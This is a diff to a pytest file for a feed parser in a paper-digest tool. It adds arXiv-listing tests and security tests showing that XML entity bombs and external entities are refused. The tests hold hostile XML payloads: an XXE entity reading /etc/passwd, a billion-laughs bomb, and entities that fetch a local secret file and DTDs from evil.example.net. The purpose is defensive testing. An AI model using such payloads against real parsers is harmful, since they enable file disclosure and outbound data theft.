@@ -1,5 +1,6 @@
 """The generic RSS/Atom feed source against recorded real third-party feeds
-(tests/fixtures/third_party_feeds/) and hand-made hostile input."""
+(tests/fixtures/third_party_feeds/) and hand-made hostile input; arXiv listings
+given to it as feeds (tests/fixtures/arxiv_rss/)."""
 
 from __future__ import annotations
 
@@ -14,7 +15,15 @@ from typing import TypeVar
 import httpx
 import pytest
 
-from digest.papers.sources import Item, Note, PaperRecord, SkippedEntry, SourceError
+from digest.papers.sources import (
+    DeferredRecord,
+    Item,
+    Note,
+    PaperRecord,
+    SkippedEntry,
+    SourceError,
+)
+from digest.papers.sources.arxiv_rss import parse_arxiv_rss
 from digest.papers.sources.feed import FeedMapping, FeedSource
 from digest.papers.sources.http import Fetcher
 from tests.papers.sources.recorded import FIXTURES, Recorded, fixture_bytes
@@ -316,16 +325,61 @@ XXE = b"""<?xml version="1.0"?>
 </channel></rss>"""
 
 
-@pytest.mark.parametrize(
-    "body", [pytest.param(BILLION_LAUGHS, id="billion-laughs"), pytest.param(XXE, id="xxe")]
-)
-def test_entity_declarations_are_refused_before_anything_is_yielded(
-    serve: Serve, body: bytes
-) -> None:
-    yielded, error = fetch_expecting_error(serve, body)
+def test_a_billion_laughs_bomb_is_refused_before_anything_is_yielded(serve: Serve) -> None:
+    yielded, error = fetch_expecting_error(serve, BILLION_LAUGHS)
 
     assert yielded == []
-    assert "entities" in str(error)
+    assert "entity expansion bomb" in str(error)
+
+
+def test_a_nested_entity_too_small_for_libxml2_to_stop_is_refused_all_the_same(
+    serve: Serve,
+) -> None:
+    nested = XXE.replace(
+        b'<!ENTITY xxe SYSTEM "file:///etc/passwd">', b'<!ENTITY a "ha"><!ENTITY xxe "&a;&a;">'
+    )
+    yielded, error = fetch_expecting_error(serve, nested)
+
+    assert yielded == [] and "entity expansion bomb" in str(error)
+
+
+def test_external_entities_are_never_read_and_the_entries_beside_them_are_kept(
+    serve: Serve, tmp_path: Path
+) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-CONTENT")
+    asked: list[str] = []
+
+    def handler(request: httpx.Request) -> httpx.Response:
+        asked.append(str(request.url))
+        return serving(body)(request)
+
+    body = f"""<?xml version="1.0"?>
+<!DOCTYPE rss [
+  <!ENTITY file SYSTEM "{secret.as_uri()}">
+  <!ENTITY remote SYSTEM "https://evil.example.net/steal.dtd">
+  <!ENTITY % dtd SYSTEM "https://evil.example.net/more.dtd"> %dtd;
+  <!ENTITY nbsp "&#160;">
+]>
+<rss version="2.0"><channel><title>hostile</title>
+<item><title>Good one</title><link>https://arxiv.org/abs/2401.00011</link>
+<description>An intact abstract.</description></item>
+<item><title>Leak &file;&remote; here</title><link>https://arxiv.org/abs/2401.00012</link>
+<description>&file;</description></item>
+<item><title>Good&nbsp;two</title><link>https://arxiv.org/abs/2401.00013</link>
+<description>Another intact abstract.</description></item>
+</channel></rss>""".encode()
+    recorded = serve(handler)
+    source = FeedSource(name="test-feed", url=URL, fetcher=recorded.fetcher)
+    found = records(list(source.fetch()))
+
+    assert found["arxiv:2401.00011"].title == "Good one"
+    assert found["arxiv:2401.00011"].abstract == "An intact abstract."
+    assert found["arxiv:2401.00013"].abstract == "Another intact abstract."
+    # Unexpanded, so gone from the text: neither the file nor the network was read.
+    assert found["arxiv:2401.00012"].title == "Leak here"
+    assert all("TOP-SECRET" not in repr(record) for record in found.values())
+    assert asked == [URL]
 
 
 @pytest.mark.parametrize(
@@ -512,3 +566,71 @@ def test_mapping_from_config_refuses_unknown_keys() -> None:
 def test_mapping_from_config_refuses_wrong_types(config: dict[str, object]) -> None:
     with pytest.raises(ValueError, match="feed mapping"):
         FeedMapping.from_config(config)
+
+
+# --- an arXiv listing given as a feed -----------------------------------------------------
+
+ARXIV_COMBINED = "arxiv_rss/arxiv_rss_20-archives-combined_1504items_2024-11-28.xml.gz"
+ARXIV_SATURDAY = "arxiv_rss/arxiv_rss_cs.CL_saturday-empty_2026-08-01.xml"
+ARXIV_BAD_ARCHIVE = "arxiv_rss/arxiv_rss_error_bad-archive-astroph_2024-11-28.xml"
+ARXIV_API = "arxiv_api/arxiv_api_query_cat-cs.AI-OR-cs.LG-OR-cs.CL_25entries_2026-08-02.xml"
+LISTING_NOTE = Note(f"{URL} is an arXiv RSS listing; read as one")
+
+
+def completed(items: list[Item]) -> dict[str, PaperRecord]:
+    return {
+        item.canonical_id: item.complete() for item in items if isinstance(item, DeferredRecord)
+    }
+
+
+def test_an_arxiv_listing_given_as_a_feed_is_read_as_arxiv_rss(serve: Serve) -> None:
+    body = fixture_bytes(ARXIV_COMBINED)
+    items = fetch_all(serve, body)
+
+    assert items[0] == LISTING_NOTE
+    papers = completed(items)
+    assert list(papers.values()) == [
+        item for item in parse_arxiv_rss(body, what=URL) if isinstance(item, PaperRecord)
+    ]
+    assert len(papers) == 1504
+    # The "arXiv:… Announce Type: … Abstract:" header is not part of any abstract.
+    assert not [p for p in papers.values() if p.abstract and "Announce Type" in p.abstract]
+    new = papers["arxiv:2411.17747"]
+    assert new.abstract and new.abstract.startswith("In this paper, we propose a low-complexity")
+    assert new.published_on == date(2024, 11, 28)
+    # A replacement is a new version of an old paper, not a paper published that day.
+    replaced = papers["arxiv:1401.3665"]
+    assert replaced.abstract and replaced.abstract.startswith("We prove the existence conjecture")
+    assert (replaced.version, replaced.published_on) == (4, None)
+
+
+def test_an_empty_arxiv_listing_given_as_a_feed_is_a_normal_day(serve: Serve) -> None:
+    assert fetch_all(serve, fixture_bytes(ARXIV_SATURDAY)) == [
+        LISTING_NOTE,
+        Note("no announcements in this listing (weekend or holiday)"),
+    ]
+
+
+def test_an_arxiv_error_listing_given_as_a_feed_is_an_error(serve: Serve) -> None:
+    yielded, error = fetch_expecting_error(serve, fixture_bytes(ARXIV_BAD_ARCHIVE))
+    assert "Bad archive 'astroph'" in str(error)
+    assert yielded == [LISTING_NOTE]
+
+
+def test_an_arxiv_listing_given_as_a_feed_keeps_its_max_entries(serve: Serve) -> None:
+    items = fetch_all(serve, fixture_bytes(ARXIV_COMBINED), max_entries=10)
+    assert len(completed(items)) == 10
+    assert Note(f"{URL} has 1,504 entries; read the first 10") in items
+
+
+def test_feeds_that_only_share_the_arxiv_namespace_are_read_generically(serve: Serve) -> None:
+    # A third-party feed that declares the namespace (for arxiv:doi, say) is no listing.
+    borrowing = fixture_bytes(TAKARA).replace(
+        b"<rss ", b'<rss xmlns:arxiv="http://arxiv.org/schemas/atom" ', 1
+    )
+    assert b"arxiv.org/schemas/atom" in borrowing
+    takara = fetch_all(serve, borrowing)
+    assert len(records(takara)) == len(takara) == 50
+    # The arXiv API answers in Atom with the same namespace.
+    api = fetch_all(serve, fixture_bytes(ARXIV_API))
+    assert len(records(api)) == len(api) == 25
